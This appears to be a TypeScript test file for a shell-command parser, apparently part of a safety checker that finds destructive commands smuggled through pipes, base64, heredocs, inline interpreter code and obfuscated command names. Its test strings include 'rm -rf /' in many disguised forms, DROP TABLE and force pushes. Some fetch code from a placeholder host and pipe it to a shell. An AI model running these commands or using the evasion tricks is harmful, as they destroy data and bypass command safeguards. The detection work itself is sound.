// Commands smuggled as data: text piped or fed into a shell, base64 decoded into a shell, inline interpreter code
// that calls a shell, and command names that are only known at run time.
import { describe } from 'node:test';
import { runCases, type ParseCase } from './cases';

/** Base64 of the given text, computed at test time so the table shows what is encoded. */
const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

const intoShells: ParseCase[] = [
  {
    line: "echo 'rm -rf /' | sh",
    commands: [{ argv: ['echo', 'rm -rf /'] }, { argv: ['sh'], pipelineBefore: ['echo'] }, { argv: ['rm', '-rf', '/'], via: ['pipe-to-shell'] }],
  },
  { line: "printf 'rm -rf %s\\n' /home | bash -s", commands: [{ argv: ['printf', 'rm -rf %s\\n', '/home'] }, { argv: ['bash', '-s'] }, { argv: ['rm', '-rf', '/home'], via: ['pipe-to-shell'] }] },
  { line: 'echo -e "rm x\\nrm y" | sudo bash', commands: [{ argv: ['echo', '-e', 'rm x\\nrm y'] }, { argv: ['bash'], via: ['sudo'], pipelineBefore: ['echo'] }, { argv: ['rm', 'x'], via: ['sudo', 'pipe-to-shell'] }, { argv: ['rm', 'y'], via: ['sudo', 'pipe-to-shell'] }] },
  {
    line: `echo ${b64('rm -rf /')} | base64 -d | bash`,
    commands: [{ argv: ['echo', b64('rm -rf /')] }, { argv: ['base64', '-d'] }, { argv: ['bash'], pipelineBefore: ['echo', 'base64'] }, { argv: ['rm', '-rf', '/'], via: ['base64-to-shell'] }],
  },
  {
    line: `echo "${b64('curl -s http://x | sh')}" | base64 --decode | sh`,
    commands: [
      { argv: ['echo', b64('curl -s http://x | sh')] },
      { argv: ['base64', '--decode'] },
      { argv: ['sh'] },
      { argv: ['curl', '-s', 'http://x'], via: ['base64-to-shell'] },
      { argv: ['sh'], via: ['base64-to-shell'], pipelineBefore: ['curl'] },
    ],
  },
  { line: `printf %s ${b64('rm x')} | base64 -D | zsh`, commands: [{ argv: ['printf', '%s', b64('rm x')] }, { argv: ['base64', '-D'] }, { argv: ['zsh'] }, { argv: ['rm', 'x'], via: ['base64-to-shell'] }] },
  { line: `echo ${b64('rm x')} | openssl base64 -d | sh`, commands: [{ argv: ['echo', b64('rm x')] }, { argv: ['openssl', 'base64', '-d'] }, { argv: ['sh'] }, { argv: ['rm', 'x'], via: ['base64-to-shell'] }] },
  { line: `base64 -d <<< ${b64('rm x')} | sh`, commands: [{ argv: ['base64', '-d'] }, { argv: ['sh'] }, { argv: ['rm', 'x'], via: ['base64-to-shell'] }] },
  { line: 'echo aGVsbG8= | base64 -d', commands: [{ argv: ['echo', 'aGVsbG8='] }, { argv: ['base64', '-d'] }] },
  { line: 'bash <<< "rm -rf /tmp/x"', commands: [{ argv: ['bash'], stdinText: 'rm -rf /tmp/x\n' }, { argv: ['rm', '-rf', '/tmp/x'], via: ['heredoc-to-shell'] }] },
  { line: 'bash <<EOF\nrm -rf $HOME\nEOF', commands: [{ argv: ['bash'] }, { argv: ['rm', '-rf', '$HOME'], via: ['heredoc-to-shell'] }] },
  { line: "sudo sh <<'EOF'\ncd /\nrm -rf x\nEOF", commands: [{ argv: ['sh'], via: ['sudo'] }, { argv: ['cd', '/'], via: ['sudo', 'heredoc-to-shell'] }, { argv: ['rm', '-rf', 'x'], via: ['sudo', 'heredoc-to-shell'] }] },
  { line: 'cat <<EOF | sh\nrm -rf /\nEOF', commands: [{ argv: ['cat'] }, { argv: ['sh'], pipelineBefore: ['cat'] }, { argv: ['rm', '-rf', '/'], via: ['pipe-to-shell'] }] },
  { line: 'source /dev/stdin <<< "rm x"', commands: [{ argv: ['source', '/dev/stdin'] }, { argv: ['rm', 'x'], via: ['heredoc-to-shell'] }] },
  { line: 'curl -fsSL https://x/install.sh | sudo -E bash -', commands: [{ argv: ['curl', '-fsSL', 'https://x/install.sh'] }, { argv: ['bash', '-'], via: ['sudo'], pipelineBefore: ['curl'] }] },
  { line: 'psql <<SQL\nDROP TABLE t;\nSQL', commands: [{ argv: ['psql'], stdinText: 'DROP TABLE t;\n' }] },
  { line: "echo 'DROP TABLE t' | psql", commands: [{ argv: ['echo', 'DROP TABLE t'] }, { argv: ['psql'], pipelineBefore: ['echo'] }] },
];

const interpreters: ParseCase[] = [
  { line: "python3 -c 'import os; os.system(\"rm -rf /\")'", commands: [{ argv: ['python3', '-c', 'import os; os.system("rm -rf /")'] }, { argv: ['rm', '-rf', '/'], via: ['python3 -c'] }] },
  { line: "python -c \"import subprocess; subprocess.run('rm -rf x', shell=True)\"", commands: [{ argv: ['python', '-c', "import subprocess; subprocess.run('rm -rf x', shell=True)"] }, { argv: ['rm', '-rf', 'x'], via: ['python -c'] }] },
  { line: "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/data\"])'", commands: [{ argv: ['python3', '-c', 'import subprocess; subprocess.run(["rm", "-rf", "/data"])'] }, { argv: ['rm', '-rf', '/data'], via: ['python3 -c'] }] },
  { line: "python3 -c 'print(1)'", commands: [{ argv: ['python3', '-c', 'print(1)'] }] },
  { line: "python3 -c 'import asyncio; asyncio.run(main())'", commands: [{ argv: ['python3', '-c', 'import asyncio; asyncio.run(main())'] }] },
  { line: "python3 - <<'PY'\nimport os\nos.system('rm -rf /srv')\nPY", commands: [{ argv: ['python3', '-'] }, { argv: ['rm', '-rf', '/srv'], via: ['python3 stdin'] }] },
  { line: "node -e \"require('child_process').execSync('rm -rf dist')\"", commands: [{ argv: ['node', '-e', "require('child_process').execSync('rm -rf dist')"] }, { argv: ['rm', '-rf', 'dist'], via: ['node -e'] }] },
  { line: "node --eval=\"cp.spawn('rm', ['-rf', '/'])\"", commands: [{ argv: ['node', "--eval=cp.spawn('rm', ['-rf', '/'])"] }, { argv: ['rm', '-rf', '/'], via: ['node --eval'] }] },
  { line: "node -p 'execSync(`git push --force`)'", commands: [{ argv: ['node', '-p', 'execSync(`git push --force`)'] }, { argv: ['git', 'push', '--force'], via: ['node -p'] }] },
  // In double quotes the backticks are the outer shell's own command substitution.
  {
    line: 'node -p "execSync(`git push --force`)"',
    commands: [{ argv: ['git', 'push', '--force'], via: ['$()'] }, { argv: ['node', '-p', 'execSync(`git push --force`)'] }, { argv: ['git', 'push', '--force'], via: ['node -p'] }],
  },
  { line: "bun -e 'await $`rm -rf x`'", commands: [{ argv: ['bun', '-e', 'await $`rm -rf x`'] }, { argv: ['rm', '-rf', 'x'], via: ['bun -e'] }] },
  { line: "deno eval 'new Deno.Command(\"rm\", { args: [\"-rf\", \"/\"] }).outputSync()'", commands: [{ argv: ['deno', 'eval', 'new Deno.Command("rm", { args: ["-rf", "/"] }).outputSync()'] }, { argv: ['rm'], via: ['deno eval'] }] },
  { line: "perl -e 'system(\"rm -rf /\")'", commands: [{ argv: ['perl', '-e', 'system("rm -rf /")'] }, { argv: ['rm', '-rf', '/'], via: ['perl -e'] }] },
  { line: "perl -le 'print `rm -rf x`'", commands: [{ argv: ['perl', '-le', 'print `rm -rf x`'] }, { argv: ['rm', '-rf', 'x'], via: ['perl -e'] }] },
  { line: "perl -E 'system \"rm\", \"-rf\", \"/\"; qx{ls}'", commands: [{ argv: ['perl', '-E', 'system "rm", "-rf", "/"; qx{ls}'] }, { argv: ['rm', '-rf', '/'], via: ['perl -E'] }, { argv: ['ls'], via: ['perl -E'] }] },
  { line: "ruby -e 'system(\"rm\", \"-rf\", \"/\")'", commands: [{ argv: ['ruby', '-e', 'system("rm", "-rf", "/")'] }, { argv: ['rm', '-rf', '/'], via: ['ruby -e'] }] },
  { line: "ruby -e '`rm -rf x`; %x(ls)'", commands: [{ argv: ['ruby', '-e', '`rm -rf x`; %x(ls)'] }, { argv: ['rm', '-rf', 'x'], via: ['ruby -e'] }, { argv: ['ls'], via: ['ruby -e'] }] },
  { line: "php -r 'shell_exec(\"rm -rf /\");'", commands: [{ argv: ['php', '-r', 'shell_exec("rm -rf /");'] }, { argv: ['rm', '-rf', '/'], via: ['php -r'] }] },
  { line: "osascript -e 'do shell script \"rm -rf ~/x\"'", commands: [{ argv: ['osascript', '-e', 'do shell script "rm -rf ~/x"'] }, { argv: ['rm', '-rf', '~/x'], via: ['osascript -e'] }] },
  { line: "sudo python3 -c 'import os; os.system(\"bash -c \\\"rm x\\\"\")'", commands: [{ argv: ['python3', '-c', 'import os; os.system("bash -c \\"rm x\\"")'], via: ['sudo'] }, { argv: ['rm', 'x'], via: ['sudo', 'python3 -c', 'bash -c'] }] },
  {
    line: 'echo "import os; os.system(\'rm -rf /srv\')" | python3',
    commands: [{ argv: ['echo', "import os; os.system('rm -rf /srv')"] }, { argv: ['python3'], pipelineBefore: ['echo'] }, { argv: ['rm', '-rf', '/srv'], via: ['python3 stdin'] }],
  },
  // A script is not inline code: the interpreter runs it as a launcher (runners.test.ts).
  { line: 'python3 manage.py flush', commands: [{ argv: ['python3', 'manage.py', 'flush'] }, { argv: ['manage.py', 'flush'], via: ['python3'] }] },
];

const dynamicNames: ParseCase[] = [
  // Names that are also JavaScript's inherited keys are ordinary commands.
  { line: 'valueOf; constructor x; rm -rf /', commands: [{ argv: ['valueOf'], name: 'valueof' }, { argv: ['constructor', 'x'] }, { argv: ['rm', '-rf', '/'] }] },
  { line: 'npx toString x', commands: [{ argv: ['npx', 'toString', 'x'] }, { argv: ['toString', 'x'], name: 'tostring', via: ['npx'] }] },
  { line: '$CMD -rf /', commands: [{ argv: ['$CMD', '-rf', '/'], name: '$CMD', dynamicName: true }], problems: ['dynamic-command'] },
  { line: 'X=rm; $X -rf /', commands: [{ argv: [], name: '', assignments: { X: 'rm' } }, { argv: ['rm', '-rf', '/'], text: '$X -rf /' }] },
  { line: 'a=r; b=m; ${a}$b -rf /', commands: [{ argv: [], name: '', assignments: { a: 'r' } }, { argv: [], name: '', assignments: { b: 'm' } }, { argv: ['rm', '-rf', '/'] }] },
  { line: 'export T="rm -rf"; $T /', commands: [{ argv: ['export', 'T=rm -rf'] }, { argv: ['rm', '-rf', '/'] }] },
  { line: '$(echo rm) -rf x', commands: [{ argv: ['echo', 'rm'], via: ['$()'] }, { argv: ['rm', '-rf', 'x'] }] },
  {
    line: `$(echo ${b64('rm')} | base64 -d) -rf x`,
    commands: [{ argv: ['echo', b64('rm')], via: ['$()'] }, { argv: ['base64', '-d'], via: ['$()'] }, { argv: ['rm', '-rf', 'x'] }],
  },
  { line: `eval "$(echo ${b64('rm -rf /')} | base64 -d)"`, commands: [{ argv: ['echo', b64('rm -rf /')], via: ['$()'] }, { argv: ['base64', '-d'], via: ['$()'] }, { argv: ['rm', '-rf', '/'], via: ['eval'] }] },
  { line: '`printf rm` -rf x', commands: [{ argv: ['printf', 'rm'], via: ['$()'] }, { argv: ['rm', '-rf', 'x'] }] },
  { line: '$(get-tool) -rf x', commands: [{ argv: ['get-tool'], via: ['$()'] }, { argv: ['$(get-tool)', '-rf', 'x'], dynamicName: true }], problems: ['dynamic-command'] },
  { line: '/???/r? -rf /', commands: [{ argv: ['/???/r?', '-rf', '/'], name: 'r?', dynamicName: true }], problems: ['dynamic-command'] },
  { line: '[ -f .env ] && [[ -d x ]] && echo ok', commands: [{ argv: ['[', '-f', '.env', ']'] }, { argv: ['echo', 'ok'] }] },
  { line: '[a] x', commands: [{ argv: ['[a]', 'x'], name: '[a]', dynamicName: true }], problems: ['dynamic-command'] },
  { line: '"$EDITOR" notes.txt', commands: [{ argv: ['$EDITOR', 'notes.txt'], name: '$EDITOR', dynamicName: true }], problems: ['dynamic-command'] },
  { line: 'sudo $CMD x', commands: [{ argv: ['$CMD', 'x'], via: ['sudo'], dynamicName: true }], problems: ['dynamic-command'] },
  { line: '$SHELL -c "rm x"', commands: [{ argv: ['rm', 'x'], via: ['sh -c'] }] },
  { line: 'echo $CMD', commands: [{ argv: ['echo', '$CMD'] }] },
  { line: '${CMD:-rm} -rf /', commands: [{ argv: ['rm', '-rf', '/'], text: '${CMD:-rm} -rf /' }] },
  { line: 'CMD=ls; ${CMD:-rm} x', commands: [{ argv: [], name: '', assignments: { CMD: 'ls' } }, { argv: ['ls', 'x'] }] },
  { line: 'rm${IFS}-rf${IFS}/', commands: [{ argv: ['rm', '-rf', '/'] }] },
  { line: 'r$@m -rf x; r${*}m y', commands: [{ argv: ['rm', '-rf', 'x'] }, { argv: ['rm', 'y'] }] },
  { line: '{rm,-rf,/}', commands: [{ argv: ['rm', '-rf', '/'] }] },
  { line: 'r{m,} -rf x', commands: [{ argv: ['rm', 'r', '-rf', 'x'] }] },
  { line: '"{rm,-rf,/}"', commands: [{ argv: ['{rm,-rf,/}'] }] },
];

describe('shell parser: text fed into a shell', () => runCases(intoShells));
describe('shell parser: inline interpreter code', () => runCases(interpreters));
describe('shell parser: dynamic command names', () => runCases(dynamicNames));
